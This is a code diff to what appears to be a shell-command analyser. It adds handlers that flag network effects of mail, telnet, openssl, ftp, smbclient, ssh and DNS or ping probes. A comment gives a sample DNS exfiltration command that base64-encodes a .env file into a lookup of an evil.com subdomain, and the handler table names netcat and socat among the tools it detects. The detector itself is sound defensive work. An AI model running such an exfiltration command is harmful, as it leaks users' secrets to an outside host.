@@ -259,10 +259,71 @@ def ssh_options(inv: Invocation) -> list[str]:
     return codes
 
 
+def mailer(inv: Invocation) -> list[Effect]:
+    """mail/mailx/sendmail/mutt: a message (its stdin and attachments) goes to the recipients' mail servers."""
+    recipients = [w.text for w in inv.args if "@" in w.text and not w.text.startswith("-")]
+    host = recipients[0].rsplit("@", 1)[1] if recipients else ""
+    return [send(host.lower(), f"{inv.name} sends mail", inv)]
+
+
+def connector(inv: Invocation) -> list[Effect]:
+    """telnet HOST, `openssl s_client -connect HOST:PORT`, ftp/lftp/tftp/smbclient: a session with another host
+    that carries whatever it is given (stdin, `put` commands)."""
+    texts = [w.text for w in inv.args]
+    if inv.name in ("openssl", "telnet") and inv.stdin.origin == "none":
+        return []  # an interactive session or a handshake probe: nothing is handed to it
+    if inv.name == "openssl":
+        if not texts or texts[0] != "s_client":
+            return []
+        target = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t == "-connect"), "")
+        return [send(host_of(target) if target else "", "openssl s_client connects to another host", inv)]
+    operands = [t for t in texts if not t.startswith("-")]
+    host = operands[0] if operands else ""
+    return [send(host_of(host.lstrip("/")) if host else "", f"{inv.name} opens a session with {host or 'a host'}",
+                 inv)]  # fmt: skip
+
+
+SSH_VALUED = frozenset("-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B".split())
+
+
+def ssh_session(inv: Invocation) -> list[Effect]:
+    """`ssh HOST < script`: with no command, the remote shell runs (and receives) whatever stdin holds. (With a
+    command, dispatch.py sends it and analyses it as code run there.)"""
+    operands: list[str] = []
+    skip = False
+    for word in inv.args:
+        if skip:
+            skip = False
+        elif word.text.startswith("-"):
+            skip = word.text in SSH_VALUED
+        else:
+            operands.append(word.text)
+    if len(operands) != 1 or inv.stdin.origin == "none":
+        return []
+    return [send(host_of(operands[0]), f"ssh feeds its input to a shell on {operands[0]}", inv)]
+
+
+# Tools that name a host to look up or reach: no data sent, but a lookup of `$(cat .env | base64).evil.com`
+# is a channel (flows.py counts them when the secret is read inside the same command).
+PROBES = frozenset(["dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois", "curl", "wget"])
+
+
+def contact(inv: Invocation) -> list[Effect]:
+    operands = [w.text for w in inv.args if not w.text.startswith("-") and not w.text.startswith("@")]
+    url = _url(inv.args) if inv.name in ("curl", "wget") else (operands[-1] if operands else "")
+    if not url:
+        return []
+    host = host_of(url)
+    return [Effect.make(Kind.READ, host, f"{inv.name} contacts {host}", source=inv.source,
+                        context={"host": host, "channel": "lookup"})]  # fmt: skip
+
+
 HANDLERS = {"curl": curl, "wget": wget, "http": httpie, "https": httpie, "xh": httpie, "xhs": httpie,
             "scp": remote_copy, "sftp": remote_copy, "rsync": remote_copy, "nc": netcat, "ncat": netcat,
-            "netcat": netcat, "socat": socat}  # fmt: skip
-NETWORKED = frozenset([*HANDLERS, "ssh"])
+            "netcat": netcat, "socat": socat, "mail": mailer, "mailx": mailer, "sendmail": mailer, "mutt": mailer,
+            "telnet": connector, "openssl": connector, "ftp": connector, "lftp": connector, "tftp": connector,
+            "smbclient": connector, "ssh": ssh_session}  # fmt: skip
+NETWORKED = frozenset([*HANDLERS, *PROBES])
 # Options whose value is shell code the command runs here: rsync's remote shell, ssh's proxy and local commands.
 RSH_OPTIONS = frozenset(["-e", "--rsh"])
 
